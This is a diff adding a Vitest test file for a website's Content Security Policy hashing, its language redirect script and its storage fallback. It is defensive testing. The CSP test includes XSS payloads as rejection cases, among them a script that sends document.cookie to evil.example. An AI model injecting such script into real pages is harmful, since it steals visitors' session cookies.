@@ -1,0 +1,72 @@
+/** The CSP's inline scripts, the language pre-paint redirect and site storage under a hostile or blocked browser. */
+import { describe, expect, it } from 'vitest';
+import { KNOWN_INLINE_SCRIPTS, inlineScriptHashes } from '../../scripts/lib/csp.ts';
+import { prePaintScript } from '../../src/lib/accessibility.ts';
+import { JS_CLASS_SCRIPT, languageRedirectScript } from '../../src/lib/inline-scripts.ts';
+import { readStored, removeStored, siteStorage, STORAGE_KEYS, writeStored } from '../../src/lib/storage.ts';
+
+const page = (body: string) => `<!doctype html><html><head><script>${JS_CLASS_SCRIPT}</script></head><body>${body}</body></html>`;
+
+describe('inlineScriptHashes', () => {
+  it('hashes the site’s own inline scripts and Astro’s island loader', () => {
+    const island = [...KNOWN_INLINE_SCRIPTS].find((s) => s.includes('astro-island'))!;
+    expect(island).toBeTruthy();
+    const hashes = inlineScriptHashes(page(`<script>${prePaintScript()}</script><script>${island}</script><script type="application/ld+json">{"@type":"Thing"}</script>`));
+    expect(hashes).toHaveLength(3);
+    for (const h of hashes) expect(h).toMatch(/^'sha256-[A-Za-z0-9+/]+=*'$/);
+  });
+
+  it('fails on any other inline script, saying what it is and where to look', () => {
+    for (const foreign of ['<script>alert(document.cookie)</script>', '<SCRIPT type="text/javascript">fetch("//evil.example/"+document.cookie)</SCRIPT>', `<script>${JS_CLASS_SCRIPT};alert(1)</script>`]) {
+      expect(() => inlineScriptHashes(page(`<article><p>Yangilik</p>${foreign}</article>`)), foreign).toThrow(/not one of the site's own.*sanitiser/s);
+    }
+  });
+});
+
+describe('the language pre-paint redirect', () => {
+  /** Runs the script as a browser would on `pathname` with `stored` in local storage; returns where it went. */
+  function run(stored: string | null, pathname = '/news/5') {
+    let went: string | null = null;
+    const location = { pathname, search: '', hash: '', replace: (url: string) => (went = url) };
+    const localStorage = { getItem: () => stored };
+    new Function('localStorage', 'location', languageRedirectScript())(localStorage, location);
+    return went;
+  }
+
+  it('goes to the stored language’s version', () => {
+    expect(run('3')).toBe('/ru/news/5');
+    expect(run('2', '/')).toBe('/uz-cyrl/');
+    expect(run('1')).toBeNull();
+    expect(run(null)).toBeNull();
+  });
+
+  it('ignores stored values that are not a language, including Object.prototype’s names', () => {
+    for (const value of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '5', '']) expect(run(value), value).toBeNull();
+  });
+});
+
+describe('site storage when the browser blocks it', () => {
+  it('never throws, and reports that nothing was stored', () => {
+    const descriptor = Object.getOwnPropertyDescriptor(globalThis, 'localStorage');
+    Object.defineProperty(globalThis, 'localStorage', {
+      configurable: true,
+      get() {
+        throw new DOMException('The operation is insecure.', 'SecurityError');
+      },
+    });
+    try {
+      expect(readStored(STORAGE_KEYS.a11y)).toBeNull();
+      expect(writeStored(STORAGE_KEYS.a11y, '{}')).toBe(false);
+      expect(() => removeStored(STORAGE_KEYS.appealDraft)).not.toThrow();
+      expect(siteStorage.getItem(STORAGE_KEYS.surveyVotes)).toBeNull();
+      expect(() => siteStorage.setItem(STORAGE_KEYS.surveyVotes, '{}')).not.toThrow();
+    } finally {
+      if (descriptor) Object.defineProperty(globalThis, 'localStorage', descriptor);
+      else delete (globalThis as { localStorage?: unknown }).localStorage;
+    }
+  });
+
+  it('every key lives under the product prefix', () => {
+    for (const key of Object.values(STORAGE_KEYS)) expect(key).toMatch(/^qorakul-hokimligi:/);
+  });
+});
